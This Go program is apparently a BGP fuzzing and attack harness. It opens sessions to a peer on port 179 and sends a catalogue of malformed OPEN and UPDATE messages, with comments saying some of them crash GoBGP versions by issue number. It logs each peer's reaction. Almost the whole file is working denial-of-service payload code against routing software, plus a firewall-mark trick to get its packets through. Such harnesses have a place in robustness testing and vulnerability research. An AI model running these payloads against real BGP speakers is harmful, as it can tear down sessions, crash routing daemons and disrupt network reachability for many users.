package main

import (
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"net/netip"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// Message types of RFC 4271 section 4.1.
const (
	typeOpen         = 1
	typeUpdate       = 2
	typeNotification = 3
	typeKeepalive    = 4
	typeUnknown      = 99
)

// After each attack the victim keeps the peer in Idle for a while, and holds
// its connections until then.
const (
	dialFor = time.Minute     // for all tries at one attack
	openFor = 8 * time.Second // for one connection
)

// An attack is what is sent on one connection.
type attack struct {
	name string
	open bool   // send a proper OPEN and KEEPALIVE first, and wait for theirs
	data []byte // then this
}

func attacks(asn uint16) []attack {
	return []attack{
		// The one that kills GoBGP v3 (osrg/gobgp#3325).
		{"19 bytes of unknown type before OPEN", false, message(typeUnknown, nil)},
		{"a KEEPALIVE before OPEN", false, message(typeKeepalive, nil)},
		{"a length below the header's own", false, header(18, typeOpen)},
		{"a length beyond 4096", false, header(65535, typeOpen)},
		{"a marker that is not all ones", false, make([]byte, 64)},
		{"19 bytes of unknown type after OPEN", true, message(typeUnknown, nil)},
		{"withdrawn length beyond the message", true, message(typeUpdate, []byte{0xff, 0xff, 0, 0})},
		{"attribute length beyond the message", true, message(typeUpdate, []byte{0, 0, 0xff, 0xff})},
		{"a prefix of 255 bits", true, message(typeUpdate, append([]byte{0, 0, 0, 0}, 255, 10, 0, 0))},
		{"NLRI without any attribute", true, message(typeUpdate, []byte{0, 0, 0, 0, 24, 10, 9, 9})},
		{"an AS_PATH segment longer than its attribute", true, update(attr(0x40, 1, 0), attr(0x40, 2, 2, 200, 0, 0, 0, 1), attr(0x40, 3, 10, 0, 0, 1))},
		{"MP_REACH of an unknown family", true, update(attr(0x80, 14, 0xff, 0xff, 0xff, 0, 0))},
		{"MP_REACH with a next hop of 255 bytes", true, update(attr(0x80, 14, 0, 2, 1, 255, 0, 0))},
		{"MP_UNREACH cut short", true, update(attr(0x80, 15, 0))},
		{"the same attribute twice", true, update(attr(0x40, 1, 0), attr(0x40, 1, 0))},
		{"unknown well-known attribute", true, update(attr(0x40, 250, 1, 2, 3))},
		{"an empty UPDATE a thousand times", true, repeat(message(typeUpdate, []byte{0, 0, 0, 0}), 1000)},
		// What outgrows another neighbor's messages on its way out ends a GoBGP
		// v4.8.0 process (osrg/gobgp#2629).
		{"1,990 two-octet AS numbers in the path", true, announce(longAttr(0x50, 2, path(asn, 255, 255, 255, 255, 255, 255, 255, 205)), 8, 11)},
		{"a first segment of 255 AS numbers", true, announce(longAttr(0x50, 2, path(asn, 255)), 8, 11)},
		{"a full message with a short prefix", true, announce(append(attr(0x40, 2, path(asn, 1)...), longAttr(0xd0, 99, make([]byte, 4035))...), 8, 11)},
		{"4,020 bytes of communities", true, announce(append(attr(0x40, 2, path(asn, 1)...), longAttr(0xd0, 8, make([]byte, 4020))...), 8, 11)},
		// What the receivers of a route end their sessions for.
		{"communities of length 0", true, announce(append(attr(0x40, 2, path(asn, 1)...), attr(0xc0, 8)...), 8, 11)},
		{"OTC of length 3", true, announce(append(attr(0x40, 2, path(asn, 1)...), attr(0xc0, 35, 0, 0, 1)...), 8, 11)},
		{"AS 0 in the path", true, announce(attr(0x40, 2, 2, 1, 0, 0), 8, 11)},
	}
}

// path is an AS_PATH of 2-octet AS numbers, with segments of the given sizes.
func path(asn uint16, sizes ...int) (b []byte) {
	for _, n := range sizes {
		b = append(b, 2, byte(n))
		for range n {
			b = binary.BigEndian.AppendUint16(b, asn)
		}
	}
	return b
}

// announce is an UPDATE with attributes beside ORIGIN and NEXT_HOP.
func announce(attrs []byte, nlri ...byte) []byte {
	attrs = append(append(attr(0x40, 1, 0), attr(0x40, 3, 192, 0, 2, 66)...), attrs...)
	body := binary.BigEndian.AppendUint16([]byte{0, 0}, uint16(len(attrs)))
	return message(typeUpdate, append(append(body, attrs...), nlri...))
}

func longAttr(flags, typ byte, value []byte) []byte {
	return append([]byte{flags, typ, byte(len(value) >> 8), byte(len(value))}, value...)
}

func attackBGP(local, peer string, asn uint16) error {
	for _, a := range attacks(asn) {
		answer, err := a.run(local, peer, asn)
		if err != nil {
			return fmt.Errorf("%s: %w", a.name, err)
		}
		fmt.Printf("%-45s %s\n", a.name, answer)
	}
	return nil
}

func (a attack) run(local, peer string, asn uint16) (answer string, err error) {
	deadline := time.Now().Add(dialFor)
	for time.Now().Before(deadline) {
		var conn net.Conn
		if conn, err = dial(local, peer); err != nil {
			time.Sleep(100 * time.Millisecond)
			continue
		}
		answer, err = a.on(conn, asn)
		conn.Close()
		if err == nil {
			return answer, nil
		}
		time.Sleep(100 * time.Millisecond)
	}
	return "", fmt.Errorf("no connection took it within %v: %w", dialFor, err)
}

func dial(local, peer string) (net.Conn, error) {
	from, err := netip.ParseAddr(local)
	if err != nil {
		return nil, err
	}
	d := net.Dialer{
		LocalAddr: net.TCPAddrFromAddrPort(netip.AddrPortFrom(from, 0)), Timeout: 2 * time.Second,
		Control: mark,
	}
	return d.Dial("tcp", net.JoinHostPort(peer, "179"))
}

// firewallMark is on all packets of the attacker's, so that a firewall can let
// it through where others are kept out.
const firewallMark = 0x179

func mark(_, _ string, c syscall.RawConn) error {
	var set error
	err := c.Control(func(fd uintptr) {
		set = unix.SetsockoptInt(int(fd), unix.SOL_SOCKET, unix.SO_MARK, firewallMark)
	})
	return errors.Join(set, err)
}

// on sends the attack and reports what came back: a NOTIFICATION, an end, or
// nothing within a second. It fails if the attack could not be brought on.
func (a attack) on(conn net.Conn, asn uint16) (string, error) {
	if err := conn.SetDeadline(time.Now().Add(openFor)); err != nil {
		return "", err
	}
	if a.open {
		if err := handshake(conn, asn); err != nil {
			return "", err
		}
	} else if typ, _, err := read(conn); err != nil || typ != typeOpen {
		// A speaker that is willing sends its OPEN at once.
		return "", fmt.Errorf("no OPEN came (type %d): %w", typ, err)
	}
	if _, err := conn.Write(a.data); err != nil {
		return "", err
	}
	if err := conn.SetReadDeadline(time.Now().Add(time.Second)); err != nil {
		return "", err
	}
	for {
		typ, body, err := read(conn)
		switch {
		case typ == typeNotification && len(body) >= 2:
			return fmt.Sprintf("NOTIFICATION %d/%d", body[0], body[1]), nil
		case errors.Is(err, io.EOF):
			return "closed", nil
		case err != nil:
			return "ignored or reset", nil //nolint:nilerr // that is the answer
		}
	}
}

// handshake brings the session to Established: OPEN and KEEPALIVE each way.
func handshake(conn net.Conn, asn uint16) error {
	if _, err := conn.Write(open(asn)); err != nil {
		return err
	}
	for want := range []int{typeOpen, typeKeepalive} {
		typ, _, err := read(conn)
		if err != nil {
			return err
		}
		if typ == typeNotification {
			return errors.New("refused")
		}
		if want == 0 {
			if _, err := conn.Write(message(typeKeepalive, nil)); err != nil {
				return err
			}
		}
	}
	return nil
}

func open(asn uint16) []byte {
	multiprotocol := func(afi byte) []byte { return []byte{2, 6, 1, 4, 0, afi, 0, 1} }
	params := append(multiprotocol(1), multiprotocol(2)...)
	body := []byte{4, byte(asn >> 8), byte(asn), 0, 90, 10, 66, 66, 66, byte(len(params))}
	return message(typeOpen, append(body, params...))
}

func header(length uint16, typ byte) []byte {
	h := make([]byte, 19)
	for i := range 16 {
		h[i] = 0xff
	}
	binary.BigEndian.PutUint16(h[16:], length)
	h[18] = typ
	return h
}

func message(typ byte, body []byte) []byte {
	return append(header(uint16(19+len(body)), typ), body...)
}

func attr(flags, typ byte, value ...byte) []byte {
	return append([]byte{flags, typ, byte(len(value))}, value...)
}

func update(attrs ...[]byte) []byte {
	var all []byte
	for _, a := range attrs {
		all = append(all, a...)
	}
	body := binary.BigEndian.AppendUint16([]byte{0, 0}, uint16(len(all)))
	return message(typeUpdate, append(body, all...))
}

func repeat(b []byte, n int) (all []byte) {
	for range n {
		all = append(all, b...)
	}
	return all
}

func read(conn net.Conn) (typ byte, body []byte, err error) {
	h := make([]byte, 19)
	if _, err := io.ReadFull(conn, h); err != nil {
		return 0, nil, err
	}
	n := int(binary.BigEndian.Uint16(h[16:])) - len(h)
	if n < 0 {
		return 0, nil, fmt.Errorf("length %d", n+len(h))
	}
	body = make([]byte, n)
	_, err = io.ReadFull(conn, body)
	return h[18], body, err
}
